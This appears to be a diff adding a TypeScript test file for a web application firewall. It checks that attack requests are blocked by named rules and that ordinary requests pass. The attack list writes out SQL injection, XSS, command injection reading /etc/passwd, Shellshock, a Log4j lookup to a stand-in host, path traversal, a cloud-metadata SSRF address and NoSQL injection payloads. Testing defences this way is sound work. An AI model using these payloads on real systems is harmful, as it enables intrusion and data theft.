@@ -1,0 +1,165 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { createWaf } from './engine/create-waf.ts'
+import type { TestRequest } from './engine/testing.ts'
+import { ask } from './engine/testing.ts'
+import type { Waf } from './engine/waf.ts'
+
+const { waf, diagnostics } = await createWaf({ rules: ['core'] })
+
+test('the built-in rules compile without a word', () => {
+  assert.deepEqual(diagnostics, [])
+  assert.ok(waf)
+})
+
+const json = { 'Content-Type': 'application/json' }
+const form = { 'Content-Type': 'application/x-www-form-urlencoded' }
+const browser = {
+  Host: 'api.example.com',
+  Accept: 'application/json, text/plain, */*',
+  'Accept-Language': 'en-GB,en;q=0.9,de;q=0.8',
+  'User-Agent':
+    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
+  Referer: 'https://shop.example.com/search?q=select+a+size&sort=price:asc',
+  Origin: 'https://shop.example.com',
+  Cookie: '_ga=GA1.2.1234567890.1700000000; theme=dark; cart={%22items%22:[1,2]}; s=s%3AabcDEF.sig%2Bpart',
+}
+
+const attacks: readonly (readonly [string, number, TestRequest])[] = [
+  ['SQL in a parameter', 2041, { target: '/items?id=1%20or%201=1' }],
+  [
+    'SQL in a field of JSON',
+    2041,
+    { method: 'POST', headers: json, body: `{"user":{"name":"' OR '1'='1"}}` },
+  ],
+  [
+    'SQL in an element of a JSON array',
+    2041,
+    { method: 'POST', headers: json, body: `{"ids":[1,"2 UNION SELECT password FROM users"]}` },
+  ],
+  ['SQL with plus signs in JSON', 2041, { method: 'POST', headers: json, body: `{"a":"'+(select 1)+'"}` }],
+  ['SQL percent-encoded twice', 2041, { target: '/items?id=1%2527%2520or%2520%25271%2527=%25271' }],
+  ['SQL in the last segment of a path', 2042, { target: "/users/1'%20or%20'1'='1" }],
+  ['SQL in a header field', 2043, { headers: { 'X-Forwarded-For': "127.0.0.1' or sleep(5)-- " } }],
+  ['SQL in a cookie', 2041, { headers: { Cookie: "id=1' or '1'='1" } }],
+  [
+    'a script in a form',
+    2051,
+    { method: 'POST', headers: form, body: 'comment=%3Cscript%3Ealert(1)%3C/script%3E' },
+  ],
+  ['a script in a name', 2051, { target: '/?%3Csvg/onload=alert(1)%3E=1' }],
+  ['a script in a user agent', 2052, { headers: { 'User-Agent': '<script>alert(1)</script>' } }],
+  ['a command', 2061, { target: '/ping?host=127.0.0.1;cat%20/etc/passwd' }],
+  ['a shellshock', 2063, { headers: { 'User-Agent': '() { :;}; /bin/bash -c "id"' } }],
+  ['a template', 2065, { method: 'POST', headers: json, body: '{"name":"{{7*7}}"}' }],
+  [
+    'a lookup of Log4j in a header field',
+    2066,
+    { headers: { 'X-Api-Version': '${jndi:ldap://evil.example/a}' } },
+  ],
+  [
+    'the class loader of Java',
+    2067,
+    { method: 'POST', headers: form, body: 'class.module.classLoader.resources=x' },
+  ],
+  ['a path that climbs', 2071, { target: '/file?name=../../../../etc/passwd' }],
+  ['a path that climbs in the path', 2072, { target: '/static/..%2f..%2f..%2fetc/passwd' }],
+  [
+    'an address of metadata',
+    2075,
+    { method: 'POST', headers: json, body: '{"url":"http://169.254.169.254/latest/meta-data/"}' },
+  ],
+  [
+    'an operator as a key of JSON',
+    2081,
+    { method: 'POST', headers: json, body: '{"user":"a","password":{"$ne":null}}' },
+  ],
+  ['an operator as a key of a parameter', 2081, { target: '/login?user=a&password[$ne]=x' }],
+  ['an LDAP filter', 2082, { target: '/people?q=*)(uid=*))(|(uid=*' }],
+  ['an XPath query', 2083, { target: "/x?q='%5D%20|%20//user/*%5Bcontains(*,'" }],
+  ['a header field behind a line break', 2084, { target: '/go?to=x%0d%0aSet-Cookie:%20a=b' }],
+  [
+    'an object of Java',
+    2085,
+    { method: 'POST', headers: json, body: '{"state":"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}' },
+  ],
+  ['a prototype', 2086, { method: 'POST', headers: json, body: '{"__proto__":{"admin":true}}' }],
+  ['a file of the repository', 2015, { target: '/.git/config' }],
+  ['a scanner', 2014, { headers: { 'User-Agent': 'sqlmap/1.8#stable (https://sqlmap.org)' } }],
+  ['a body that is not what it says', 2011, { method: 'POST', headers: json, body: '{"a":' }],
+]
+
+for (const [name, id, request] of attacks) {
+  test(`${name} is refused by rule ${id}`, () => {
+    const { ids, verdict } = ask(waf as Waf, {
+      ...request,
+      headers: { Host: 'api.example.com', ...request.headers },
+    })
+    assert.ok(ids.includes(id), `matched: ${ids.join(', ')}`)
+    assert.equal(verdict.kind, 'block')
+  })
+}
+
+const harmless: readonly (readonly [string, TestRequest])[] = [
+  ['a plain GET', { target: '/v1/orders' }],
+  [
+    'a search in words of SQL',
+    { target: '/search?q=select+one+from+the+list+or+drop+it&sort=-price,name&page=2' },
+  ],
+  ['a filter', { target: '/items?filter=price%20gt%2010%20and%20price%20lt%2050&fields=id,name' }],
+  ['a name with an apostrophe', { target: "/people?name=O'Brien&city=L'Aquila" }],
+  [
+    'an address to come back to',
+    { target: '/authorize?redirect_uri=http://localhost:3000/callback&state=a-b_c' },
+  ],
+  ['a link', { method: 'POST', headers: json, body: '{"url":"https://example.com/a/b?x=1&y=2#top"}' }],
+  ['a path with an identifier', { target: '/v1/users/a1b2c3d4-e5f6-7890-abcd-ef1234567890/orders/42' }],
+  [
+    'an order',
+    {
+      method: 'POST',
+      headers: json,
+      body: JSON.stringify({
+        customer: { name: "Siobhán O'Connor", email: 'siobhan+shop@example.ie', phone: '+353 (1) 555-0123' },
+        items: [{ sku: 'TV-55"', title: 'Samsung 55" QLED; wall mount & cable', price: 1299.0, count: 2 }],
+        note: "Please ring twice -- the bell doesn't always work. Leave it with no. 5 or 7 if I'm out!",
+        discount: null,
+      }),
+    },
+  ],
+  [
+    'an article in Markdown',
+    {
+      method: 'POST',
+      headers: json,
+      body: JSON.stringify({
+        title: 'How to select a database',
+        body: "# Joins\n\nUse `npm install pg`, then read about **UNION** and *GROUP BY*.\n\n> It's easy; 5 > 3 and x < 4.\n\n- [x] done\n",
+      }),
+    },
+  ],
+  [
+    'a form',
+    {
+      method: 'POST',
+      headers: form,
+      body: 'name=Ada+Lovelace&message=I+like+cats+%26+dogs%3B+and+you%3F&agree=true',
+    },
+  ],
+  [
+    'a query of GraphQL',
+    {
+      method: 'POST',
+      headers: json,
+      body: '{"query":"query($id: ID!) { user(id: $id) { name orders(first: 10) { total } } }","variables":{"id":"42"}}',
+    },
+  ],
+]
+
+for (const [name, request] of harmless) {
+  test(`${name} passes`, () => {
+    const { ids, verdict } = ask(waf as Waf, { ...request, headers: { ...browser, ...request.headers } })
+    assert.deepEqual(ids, [])
+    assert.equal(verdict.kind, 'pass')
+  })
+}
